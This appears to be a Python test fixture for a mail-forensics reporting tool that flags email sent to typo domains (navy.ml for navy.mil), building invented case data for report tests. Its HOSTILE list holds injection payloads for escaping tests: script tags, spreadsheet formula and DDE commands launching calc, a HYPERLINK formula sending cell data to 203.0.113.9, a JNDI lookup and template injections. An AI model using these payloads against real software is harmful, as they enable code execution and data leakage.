"""A made case for tests of the report: tables of any size, with friendly or hostile values, gathered as facts.

Names and domains are invented; nothing here is drawn at random.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import duckdb
import pyarrow as pa

from forensics import schema
from forensics.casefile import CaseFile
from forensics.headline import COUNTING
from forensics.report import charts
from forensics.report.facts import Bin, Evidence, Facts, Method, Rate
from forensics.report.facts.gather import Inputs, gather
from forensics.report.text.context import Context
from forensics.report.text.wording import load
from forensics.rulings import Verdict

START = datetime(2023, 3, 20, 8, 15, tzinfo=UTC)
EVIDENCE = "a" * 64
PAIRS = (
    ("navy.ml", "navy.mil", "suffix-typo", ".mil → .ml"),
    ("army.ml", "army.mil", "suffix-typo", ".mil → .ml"),
    ("us.af.ml", "us.af.mil", "suffix-typo", ".mil → .ml"),
    ("contoso-marin.com", "contoso-marine.com", "omitted-letter", None),
    ("navy.mli", "navy.mil", "transposed-letters", ".mil → .mli"),
)
QUESTIONNAIRE: dict[str, Any] = {
    "report": {
        "reference": "ALB-2023-004",
        "status": "initial",
        "handling": "Official – Sensitive",
        "author": "R. Examiner",
        "qualification": "Certified examiner of mail systems",
        "contact": "Data protection officer, dpo@albion-logistics.example, +44 20 7946 0000",
    },
    "discovery": {
        "discovered_at": "2023-04-03T09:00:00+00:00",
        "discovered_how": "A bounce was reported to the service desk by h.grant@albion-logistics.example.",
        "aware_at": "2023-04-03T14:30:00+00:00",
        "aware_basis": "First review of the gateway log",
    },
    "account": {"what_happened": "Mail for partners was typed with a wrong ending.", "cause": "Typing slips."},
    "exposed": {"records": 40, "subjects": 12, "subject_categories": ["employees", "contractors"]},
    "consequences": {"likely": "Travel details may have become known.", "high_risk": "undecided"},
    "measures": {"taken": "The route was blocked.", "blocked_at": "2023-04-04T00:00:00+00:00"},
    "notification": {"decision": "undecided"},
    "operators": [{"suffix": "ml", "then": "a private company under contract", "now": "the national agency"}],
    "statements": [
        {"claim": "Only a small number of mails were sent.", "by": "Press office", "on": date(2023, 4, 5)},
        {"claim": "At most five mails.", "check": "messages-at-most", "value": 5},
    ],
    "actions": [{"what": "Train senders", "owner": "Head of service", "due": date(2023, 5, 1)}],
}


def casefile(**more: Any) -> CaseFile:
    return CaseFile.model_validate(
        {
            "organisation": {
                "name": "Albion Logistics",
                "domains": ["albion-logistics.example"],
                "timezone": "Europe/London",
            },
            "domains": {"watched": ["*.mil"]},
            "questionnaire": QUESTIONNAIRE,
            **more,
        }
    )


def delivery(number: int, at: datetime, recipient: str, **more: Any) -> dict[str, Any]:
    """One row of DELIVERIES."""
    row = {
        "delivery_id": f"d{number:06d}",
        "system": "postfix",
        "host": "mx1",
        "queue_id": f"4Xy{number:07d}",
        "message_id": f"{number}.mail@albion-logistics.example",
        "network_message_id": None,
        "submitted_at": at,
        "resolved_at": at + timedelta(seconds=3),
        "sender": "h.grant@albion-logistics.example",
        "sender_domain": "albion-logistics.example",
        "authenticated_user": None,
        "client_name": None,
        "client_address": None,
        "recipient": recipient,
        "recipient_domain": recipient.rpartition("@")[2],
        "original_recipient": None,
        "recipient_role": "unknown",
        "outcome": "delivered",
        "status_code": "2.0.0",
        "response": "250 2.0.0 Ok: queued as 12345",
        "relay_name": "mail." + recipient.rpartition("@")[2],
        "relay_address": "192.0.2.25",
        "tls": True,
        "attempts": 1,
        "size_bytes": 18_000 + number,
        "recipient_count": 1,
        "subject": f"Berthing plan {number}",
        "hops": 0,
        "possible_duplicate_of": None,
        "records": [{"evidence": EVIDENCE, "number": 10 * number + 1, "offset": 1000 * number, "length": 120}],
    }
    return row | more


NO_HOST = "Host or domain name not found. Name service error for name=navy.mli type=MX: Host not found"


def findings(
    count: int, hostile: Sequence[str] = (), refused_with: str | None = NO_HOST, refused: bool | None = None
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """(deliveries, findings): `count` of them, spread over PAIRS, exposures, origins and levels.

    A hostile value, where given, stands as subject, response, local part, relay and reason of one finding each.
    `refused`: all of them, or (False) none; the others are then accepted.
    """
    deliveries, found = [], []
    for n in range(count):
        typed, meant, slip, _ = PAIRS[n % len(PAIRS)]
        turned_away = typed == "navy.mli" or n % 7 == 3 if refused is None else refused
        value = hostile[n] if n < len(hostile) else None
        local = f"jtaylor{n % 9}" if value is None else f"j{value}"
        sender = f"s{n % 23}.grant@albion-logistics.example"
        more: dict[str, Any] = {"sender": sender}
        if turned_away:
            more |= {"outcome": "bounced", "status_code": "5.4.4", "relay_name": None, "relay_address": None}
            more |= {"response": refused_with, "tls": None}
        if n % 11 == 5:
            more["original_recipient"] = "ops-desk@albion-logistics.example"
        if value is not None:
            more |= {"subject": value, "response": f"250 {value}", "relay_name": f"mx {value}"}
        at = START + timedelta(minutes=37 * n)
        deliveries.append(delivery(n, at, f"{local}@{typed}", **more))
        level = ("high", "high", "medium", "high", "low")[n // 5 % 5]
        found.append(
            {
                "delivery_id": f"d{n:06d}",
                "observed_domain": typed,
                "intended_domain": meant,
                "intended_address": f"{local}@{meant}",
                "slip": slip,
                "score": {"high": 0.9876, "medium": 0.7, "low": 0.2}[level],
                "weight": 5.25,
                "prior": -3.3,
                "reasons": [
                    {
                        "name": "history",
                        "weight": 3.1,
                        "text": value or f"{sender} wrote to {meant} 14 times before.",
                        "source": "ours",
                    },
                    {"name": "slip", "weight": 2.15, "text": "One letter left out.", "source": "ours"},
                ],
                "alternatives": [{"domain": "navy.example", "score": 0.01}],
                "level": level,
                "exposure": "not-exposed"
                if turned_away
                else "handed-on"
                if refused is None and n % 13 == 8
                else "exposed",
                "origin": "list" if n % 11 == 5 else "automated" if n % 17 == 9 else "typed",
                "incident_id": f"i-{typed}",
                "score_without_theirs": {"high": 0.9876, "medium": 0.7, "low": 0.2}[level],
                "contested": False,
            }
        )
    return deliveries, found


def incident_rows(found: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows = []
    for typed, meant, slip, story in PAIRS:
        own = [f for f in found if f["observed_domain"] == typed]
        if own:
            rows.append(
                {
                    "incident_id": f"i-{typed}",
                    "observed_domain": typed,
                    "intended_domain": meant,
                    "slip": slip,
                    "story": story,
                    "observed_jurisdiction": "ML" if typed.endswith(".ml") else None,
                    "intended_jurisdiction": "US" if meant.endswith(".mil") else None,
                    "first_seen": START,
                    "last_seen": START,
                    "messages": len(own),
                    "recipients": 1,
                    "senders": 1,
                    "exposed": 0,
                    "not_exposed": 0,
                    "score": max(f["score"] for f in own),
                }
            )
    return rows


def method() -> Method:
    return Method(
        version="0.1.0",
        settings_digest="5e" * 32,
        suffix_list_digest="1f" * 32,
        libraries=(("duckdb", "1.4"), ("numpy", "2.0")),
        parameters=(("prior", "0.0005"), ("threshold.high", "0.95")),
        rates=(
            Rate("made corpus", "precision", 0.96, 0.9, 0.99, 100),
            Rate("made corpus", "recall", 0.95, 0.88, 0.98, 100),
        ),
        reliability=(Bin(0.1, 0.12, 40), Bin(0.5, 0.47, 40), Bin(0.98, 0.99, 40)),
        evaluated_on="a made corpus",
        command="missent run logs --org albion-logistics.example --case case",
    )


def evidence() -> tuple[Evidence, ...]:
    return (
        Evidence(
            ref="E1",
            names=("mail.log.1.gz",),
            file_sha256="c" * 64,
            content_sha256=EVIDENCE,
            file_bytes=120_000,
            content_bytes=1_900_000,
            loader="postfix",
            records=20_000,
            used=15_000,
            ignored=4_990,
            unread=7,
            duplicates=3,
            first=START - timedelta(hours=8),
            last=START + timedelta(days=40),
            time_basis="year 2023 given by --year; zone UTC",
        ),
    )


_evidence = evidence


def facts(
    count: int = 40,
    hostile: Sequence[str] = (),
    *,
    verdicts: Sequence[Verdict] = (),
    as_of: datetime | None = datetime(2023, 4, 5, 12, 0, tzinfo=UTC),
    case: CaseFile | None = None,
    more: Sequence[dict[str, Any]] = (),
    evidence: Sequence[Evidence] | None = None,
    headline: Sequence[str] = COUNTING,
    refused_with: str | None = NO_HOST,
    refused: bool | None = None,
) -> Facts:
    """The facts of a case with `count` findings (0: a case in which nothing was found) and `more` deliveries."""
    deliveries, found = findings(count, hostile, refused_with, refused)
    genuine = [
        delivery(1_000_000 + n, START + timedelta(hours=3 * n), "ops@navy.mil", subject=None) for n in range(200)
    ]
    connection = duckdb.connect()
    connection.execute("SET TimeZone = 'UTC'")
    tables = {
        "made": pa.Table.from_pylist([*deliveries, *genuine, *more], schema.DELIVERIES),
        "findings": pa.Table.from_pylist(found, schema.FINDINGS),
        "incidents": pa.Table.from_pylist(incident_rows(found), schema.INCIDENTS),
        "unread": pa.Table.from_pylist(
            [
                {"evidence": EVIDENCE, "number": n, "offset": n, "length": 3, "reason": "no stamp", "raw": b"?"}
                for n in range(7)
            ],
            schema.UNREAD,
        ),
    }
    for name, table in tables.items():
        connection.register(name, table)
    connection.execute("CREATE VIEW deliveries AS SELECT *, 'outbound' AS direction FROM made")
    return gather(
        connection,
        Inputs(
            casefile=case or casefile(),
            evidence=_evidence() if evidence is None else evidence,
            evidence_ids={EVIDENCE: "E1"},
            method=method(),
            verdicts=verdicts,
            as_of=as_of,
            headline=headline,
            case_state="3f" * 32,
            verify="missent verify case",
        ),
    )


CONFIRM = Verdict(
    observed_domain="navy.ml",
    intended_domain="navy.mil",
    verdict="confirmed",
    reason="Sender asked: meant the navy.",
    deliveries=(),
    reviewer="R. Examiner",
    at=datetime(2023, 4, 4, 10, tzinfo=UTC),
    sequence=1,
)


def renamed(made: Facts, **header: Any) -> Facts:
    """The same facts with other values in the header."""
    return replace(made, header=replace(made.header, **header))


HOSTILE = (
    "<script>alert(document.domain)</script>",
    "</w:t></w:r><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1;b",
    'quoted", "=1+1',
    "'=already guarded",
    "＝1+1",
    "#{panic()} #sys $x^2$ `raw` \\ *bold* _it_ = Head",
    "{{ 7*7 }} {% for x in y %} {_{ 7*7 }_} {# c #}",
    "${jndi:ldap://203.0.113.9/a}",
    "`code` ``two`` | pipe \\| both",
    "[link](javascript:alert(1)) ![i](http://203.0.113.9/x.png) www.example.com :tada:",
    "null\x00byte and \x0b vertical \x1b[31mred",
    "illegal \ufffe\uffff xml ]]> &amp; &#0; <!--",
    "\u202egpj.exe\u202c \u2066isolate\u2069 zero\u200bwidth \ufeff bom",
    "line\nbreak\r\nand\u2028separator\u0085nel",
    "_x0041_ _x005F_ excel",
    "\\u{41} literal escape",
    "no\u00a0break \u3164 filler",
    "中文 שלום العربية 🚢",
    "e\u0301 combining Z\u0351\u036b\u0343 zalgo",
    "  two  spaces  ",
    "64 KiB " + "A" * 65_536,
)
"""What strangers may write into a subject, an address or a server's reply."""

SURROGATE = "half \ud800 pair \udfff"
"""Arrow cannot hold it; a format must survive it all the same."""


def swapped(value: Any, change: dict[str, str]) -> Any:
    """A copy of facts in which every string equal to a key of `change` is another."""
    if isinstance(value, str):
        return change.get(value, value)
    if isinstance(value, tuple):
        return tuple(swapped(part, change) for part in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{field.name: swapped(getattr(value, field.name), change) for field in fields(value)})
    return value


def context(made: Facts) -> Context:
    """What a format is handed beside the facts."""
    words = load()
    return Context(words, charts.draw(made, words))
